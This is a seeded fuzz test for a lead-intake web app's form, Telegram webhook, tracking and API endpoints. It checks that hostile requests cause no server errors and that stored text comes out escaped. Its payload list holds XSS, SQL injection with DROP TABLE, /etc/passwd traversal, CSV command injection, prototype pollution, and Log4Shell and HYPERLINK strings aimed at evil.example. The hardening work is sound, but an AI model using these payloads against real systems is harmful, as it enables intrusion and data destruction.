// Hostile input against the intake endpoints, from a fixed seed: the public web form, Telegram's
// webhook (with its secret: the body is what an attacker who has it controls), the tracking number
// lookup, and the JSON intake with a token. Valid requests go in between and must keep working.
// Nothing may answer 5xx or crash; every 4xx says what is wrong; what was stored comes out inert
// (HTML escaped on the console's pages, formulas neutralised in CSV).
import t from 'tap'
import type { FastifyInstance, InjectOptions, LightMyRequestResponse } from 'fastify'
import { createUser } from '../../src/accounts/user-service.js'
import { putPool } from '../../src/pbx/tracking-pools.js'
import { browser, logIn } from '../console/helpers.js'
import { bearer, leadsTestApp, t0, telegramSecret } from '../http/leads-helpers.js'
import { password, seededRandom } from './helpers.js'

const seed = 0x5EC12
const hostileCount = 1200
const validEvery = 8

type Endpoint = 'form' | 'telegram' | 'tracking' | 'api'

/** Field names each endpoint knows; a 400 must name one of these (or the body/query/headers as a whole). */
const fields: Record<Endpoint, string[]> = {
  form: ['name', 'phone', 'email', 'message', 'source', 'category', 'utm_source', 'utm_medium', 'utm_campaign', 'utm_term', 'utm_content', 'redirect', 'website'],
  telegram: ['update_id', 'message'],
  tracking: ['source', 'visitor', 'utm_source', 'utm_medium', 'utm_campaign', 'utm_term', 'utm_content'],
  api: ['name', 'phone', 'email', 'message', 'source', 'categoryId', 'utm', 'externalId', 'idempotency-key']
}

function fuzzer (random: () => number) {
  const int = (n: number): number => Math.floor(random() * n)
  const pick = <T>(xs: readonly T[]): T => xs[int(xs.length)]!
  const strings: Array<() => string> = [
    () => '<script>alert(1)</script>',
    () => '"><img src=x onerror=alert(1)>',
    () => '=HYPERLINK("http://evil.example","click")',
    () => pick(['+', '-', '@', '\t', '\r']) + 'cmd|\' /C calc\'!A0',
    () => '\' OR 1=1; DROP TABLE leads; --',
    () => '../../../../etc/passwd',
    () => '${jndi:ldap://evil.example/a}',
    () => '%s%s%s%n%x',
    () => '\u0000NUL\u0000',
    () => 'rtl\u202Eexe.txt',
    () => 'zero\u200Bwidth\uFEFF',
    () => 'lone \uD800 surrogate',
    () => 'Z̷̧̛a̸l̶g̵o̴',
    () => '🦄'.repeat(1 + int(300)),
    () => 'line\r\nexten => 666,1,Hangup()',
    () => 'x'.repeat(1 + int(6000)),
    // Larger than the body limit (1 MB), now and then: Fastify stops reading at the limit.
    () => (random() < 0.1 ? 'a'.repeat(1_100_000) : 'x'.repeat(200 + int(2000))),
    () => String(int(10) === 0 ? '' : int(1e9)),
    () => '+7' + '9'.repeat(int(80)),
    () => '__proto__',
    () => 'constructor',
    () => pick(['javascript:alert(1)', '//evil.example', '/\t/evil.example', 'https://evil.example/x', '/%0a/evil'])
  ]
  const str = (): string => pick(strings)()
  const odd = (): unknown => pick<() => unknown>([
    () => int(1e6), () => -1, () => 1.5, () => true, () => null, () => [], () => [str()], () => ({}), () => ({ a: str() }),
    () => ({ __proto__: { polluted: 'yes' } }), () => JSON.parse('{"__proto__":{"polluted":"yes"}}'), () => str()
  ])()
  /** JSON nested `depth` deep, as text (JSON.stringify itself would run out of stack). */
  const deep = (depth: number): string => {
    const opens: string[] = []
    const closes: string[] = []
    for (let i = 0; i < depth; i++) {
      const array = random() < 0.5
      opens.push(array ? '[' : '{"x":')
      closes.push(array ? ']' : '}')
    }
    return `${opens.join('')}"bottom"${closes.reverse().join('')}`
  }
  return { int, pick, str, odd, deep }
}

interface Attack { endpoint: Endpoint; opts: InjectOptions }

function makeAttack (f: ReturnType<typeof fuzzer>, random: () => number, n: number, apiToken: string): Attack {
  const endpoint = f.pick<Endpoint>(['form', 'form', 'telegram', 'tracking', 'api'])
  const shape = f.int(10)
  const pollute = (o: Record<string, unknown>): string => {
    const text = JSON.stringify(o)
    if (random() >= 0.3) return text
    return text.replace(/^\{/, `{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}${text === '{}' ? '' : ','}`)
  }
  const fieldsOf = (names: string[]): Record<string, unknown> => {
    const o: Record<string, unknown> = {}
    for (const name of names) if (random() < 0.6) o[name] = random() < 0.7 ? f.str() : f.odd()
    if (random() < 0.2) o[`extra_${f.int(5)}`] = f.odd()
    return o
  }
  const broken = (): Record<string, string> => ({
    'content-type': f.pick(['text/plain', 'multipart/form-data; boundary=x', 'application/xml', 'application/json; charset=utf-7', 'application/x-www-form-urlencoded; charset=evil', '', 'application/json, text/html', `application/json; ${'p=1;'.repeat(500)}`])
  })
  switch (endpoint) {
    case 'form': {
      const body = fieldsOf(fields.form)
      if (shape < 6) {
        const params = new URLSearchParams()
        for (const [k, v] of Object.entries(body)) params.append(k, typeof v === 'string' ? v : JSON.stringify(v))
        if (shape === 0) params.append('__proto__[polluted]', 'yes')
        if (shape === 1) for (const k of Object.keys(body)) params.append(k, f.str()) // repeated fields
        return { endpoint, opts: { method: 'POST', url: '/api/forms/lead', headers: { 'content-type': 'application/x-www-form-urlencoded' }, payload: params.toString() } }
      }
      if (shape === 6) return { endpoint, opts: { method: 'POST', url: '/api/forms/lead', headers: { 'content-type': 'application/x-www-form-urlencoded' }, payload: Buffer.from([0x6e, 0x61, 0x6d, 0x65, 0x3d, 0xff, 0xfe, 0xc0, 0x80, 0x25, 0x45]) } }
      if (shape === 7) return { endpoint, opts: { method: 'POST', url: '/api/forms/lead', headers: { 'content-type': 'application/json' }, payload: pollute(body) } }
      return { endpoint, opts: { method: 'POST', url: '/api/forms/lead', headers: broken(), payload: f.str() } }
    }
    case 'telegram': {
      const headers = { 'x-telegram-bot-api-secret-token': telegramSecret, 'content-type': 'application/json' }
      const message: Record<string, unknown> = {
        message_id: random() < 0.8 ? n : f.odd(), date: random() < 0.8 ? 1 : f.odd(),
        chat: random() < 0.8 ? { id: 1000 + f.int(50), type: random() < 0.8 ? 'private' : f.str() } : f.odd(),
        from: random() < 0.8 ? { id: 7, first_name: random() < 0.6 ? f.str() : f.odd(), username: random() < 0.5 ? f.str() : undefined } : f.odd(),
        text: random() < 0.7 ? f.str() : f.odd()
      }
      if (random() < 0.3) message.contact = { phone_number: random() < 0.5 ? f.str() : f.odd(), first_name: f.str() }
      const update = { update_id: random() < 0.8 ? 10_000 + n : f.odd(), message: random() < 0.85 ? message : f.odd() }
      if (shape < 7) return { endpoint, opts: { method: 'POST', url: '/api/telegram/webhook', headers, payload: pollute(update) } }
      if (shape === 7) return { endpoint, opts: { method: 'POST', url: '/api/telegram/webhook', headers, payload: f.deep(1000 + f.int(20_000)) } }
      if (shape === 8) return { endpoint, opts: { method: 'POST', url: '/api/telegram/webhook', headers, payload: '{"update_id": 1, "message": {' } }
      return { endpoint, opts: { method: 'POST', url: '/api/telegram/webhook', headers: { ...headers, ...broken() }, payload: f.str() } }
    }
    case 'tracking': {
      const q = new URLSearchParams()
      for (const name of fields.tracking) if (random() < 0.7) q.append(name, random() < 0.5 ? (name === 'source' ? 'ads' : f.str()) : f.str())
      if (shape < 2) q.append('source', f.str()) // the same parameter twice
      if (shape === 2) q.append('__proto__[polluted]', 'yes')
      const url = `/api/tracking/number?${q.toString().slice(0, 60_000)}${shape === 3 ? '&%zz=%E0%A4%A' : ''}`
      return { endpoint, opts: { method: 'GET', url } }
    }
    case 'api': {
      const body = fieldsOf(fields.api.filter((x) => x !== 'idempotency-key'))
      const headers: Record<string, string> = { ...bearer(apiToken), 'content-type': 'application/json' }
      if (random() < 0.2) headers['idempotency-key'] = f.str().slice(0, 300).replace(/[^\t\x20-\x7e]/g, '?')
      if (shape < 7) return { endpoint, opts: { method: 'POST', url: '/api/leads', headers, payload: pollute(body) } }
      if (shape === 7) return { endpoint, opts: { method: 'POST', url: '/api/leads', headers, payload: f.deep(1000 + f.int(20_000)) } }
      if (shape === 8) return { endpoint, opts: { method: 'POST', url: '/api/leads', headers: { ...headers, 'content-type': 'application/x-www-form-urlencoded' }, payload: 'name=x&phone=%2B79990000000' } }
      return { endpoint, opts: { method: 'POST', url: '/api/leads', headers: { ...headers, ...broken() }, payload: f.str() } }
    }
  }
}

/** A request each endpoint must take, whatever came before. */
function valid (endpoint: Endpoint, n: number, apiToken: string): { opts: InjectOptions; ok: number[] } {
  const phone = `+7999${String(n).padStart(7, '0')}`
  switch (endpoint) {
    case 'form': return { ok: [303], opts: { method: 'POST', url: '/api/forms/lead', headers: { 'content-type': 'application/x-www-form-urlencoded' }, payload: new URLSearchParams({ name: `Valid ${n}`, phone }).toString() } }
    case 'telegram': return {
      ok: [200],
      opts: { method: 'POST', url: '/api/telegram/webhook', headers: { 'x-telegram-bot-api-secret-token': telegramSecret }, payload: { update_id: 900_000 + n, message: { message_id: n, date: 1, chat: { id: 500_000 + n, type: 'private' }, from: { id: 500_000 + n, first_name: `Valid ${n}` }, text: 'hello' } } }
    }
    case 'tracking': return { ok: [200], opts: { method: 'GET', url: `/api/tracking/number?source=ads&visitor=valid-visitor-${n}` } }
    case 'api': return { ok: [201], opts: { method: 'POST', url: '/api/leads', headers: bearer(apiToken), payload: { name: `Valid ${n}`, phone } } }
  }
}

/** Whether a 4xx says what is wrong: a field of the endpoint (400), or the problem in words. */
function saysWhatIsWrong (endpoint: Endpoint, res: LightMyRequestResponse): string | null {
  if (endpoint === 'form') {
    const items = [...res.body.matchAll(/<li>([^<]*)<\/li>/g)].map((m) => m[1]!)
    if (items.length === 0) return 'a form refusal page without a reason'
    if (res.statusCode === 400 && !items.every((i) => i === 'the form arrived empty' || [...fields.form, 'body'].some((f) => i.startsWith(`${f}: `)))) return `a form refusal that names no field: ${items.join(' | ')}`
    return null
  }
  let body: { error?: unknown; message?: unknown }
  try { body = res.json() } catch { return `not JSON: ${res.body.slice(0, 100)}` }
  if (typeof body.error !== 'string' || typeof body.message !== 'string' || body.message === '') return `no error and message: ${res.body.slice(0, 100)}`
  if (res.statusCode === 400) {
    const named = /^([^:]+): /.exec(body.message)?.[1]
    const known = [...fields[endpoint], 'body', 'query', 'headers', 'message.chat', 'message.from', 'message.contact']
    if (named === undefined || !known.some((k) => named === k || named.startsWith(`${k}.`))) return `a 400 that names no field of ${endpoint}: ${body.message.slice(0, 150)}`
  }
  return null
}

t.test(`${hostileCount} hostile intake requests from seed ${seed}: no 5xx, no crash, every 4xx says what is wrong, valid requests keep working`, async (t) => {
  const w = await leadsTestApp({ limits: { intakePerMinute: 1_000_000, trackingPerMinute: 1_000_000 } })
  t.teardown(() => w.close())
  putPool(w.catalog, 'ads', { defaultDid: '74950000010', numbers: ['74950000011', '74950000012'] })
  const apiToken = w.tokenFor('supervisor')
  const random = seededRandom(seed)
  const f = fuzzer(random)
  const byStatus = new Map<number, number>()
  const problems: string[] = []
  let hostile = 0
  let validSent = 0
  let validFailed = 0
  const startedMs = performance.now()
  for (let n = 0; hostile < hostileCount; n++) {
    if (n % validEvery === 0) {
      const v = valid(f.pick<Endpoint>(['form', 'telegram', 'tracking', 'api']), n, apiToken)
      const res = await w.app.inject(v.opts)
      validSent++
      if (!v.ok.includes(res.statusCode)) {
        validFailed++
        problems.push(`valid ${v.opts.method} ${v.opts.url} after hostile input: ${res.statusCode} ${res.body.slice(0, 120)}`)
      }
      continue
    }
    const attack = makeAttack(f, random, n, apiToken)
    const res = await w.app.inject(attack.opts)
    hostile++
    byStatus.set(res.statusCode, (byStatus.get(res.statusCode) ?? 0) + 1)
    if (res.statusCode >= 500) problems.push(`${attack.endpoint} #${n}: ${res.statusCode} ${res.body.slice(0, 150)}`)
    else if (res.statusCode >= 400) {
      const problem = saysWhatIsWrong(attack.endpoint, res)
      if (problem !== null) problems.push(`${attack.endpoint} #${n} ${res.statusCode}: ${problem}`)
    }
  }
  const serverErrors = [...byStatus].filter(([s]) => s >= 500).reduce((a, [, c]) => a + c, 0)
  t.same(problems, [], 'every answer as it should be')
  t.equal(serverErrors, 0, 'no 5xx')
  t.equal(validFailed, 0, 'valid requests in between all worked')
  t.equal(({} as Record<string, unknown>).polluted, undefined, 'Object.prototype is untouched')
  t.equal((await w.app.inject({ url: '/api/health' })).statusCode, 200, 'the app still answers')
  t.comment(`hostile: ${hostile} in ${Math.round(performance.now() - startedMs)} ms, valid in between: ${validSent}, answers: ${JSON.stringify(Object.fromEntries([...byStatus].sort((a, b) => a[0] - b[0])))}`)

  // What was stored comes out inert: escaped on the console's pages, neutralised in CSV.
  await createUser(w.db, { username: 'boss', password, role: 'admin' }, w.clock.ms)
  const b = browser(w.app as unknown as FastifyInstance)
  t.equal((await logIn(b, 'boss', password)).status, 302)
  const stored = w.repo.list({ limit: 10_000 })
  t.ok(stored.length > 100, `leads were stored (${stored.length})`)
  const hostileLeads = stored.filter((l) => /<script|<img|HYPERLINK|\u202E|\u0000/.test(`${l.name ?? ''}${l.message ?? ''}${l.source ?? ''}`))
  t.ok(hostileLeads.length > 0, `some hostile text was stored as text (${hostileLeads.length} leads)`)
  for (const lead of hostileLeads.slice(0, 25)) {
    const page = await b.get(`/leads/${encodeURIComponent(lead.leadId)}`)
    t.equal(page.status, 200)
    t.notMatch(page.body, /<script>alert|<img src=x/, `lead ${lead.leadId}: its text is escaped on the page`)
  }
  const list = await b.get('/leads')
  t.notMatch(list.body, /<script>alert|<img src=x/, 'the leads list escapes it too')
  const csv = await w.app.inject({ url: `/api/reports/funnels?by=source&format=csv&from=${t0 - 60_000}&to=${w.clock.ms + 60_000}`, headers: bearer(w.admin) })
  t.equal(csv.statusCode, 200)
  const formulaCells = csv.body.split(/\r?\n/).filter((line) => /(^|,)"?[=+@\t\r]|(^|,)"?-[^0-9]/.test(line))
  t.same(formulaCells, [], 'no CSV cell starts a formula')
})
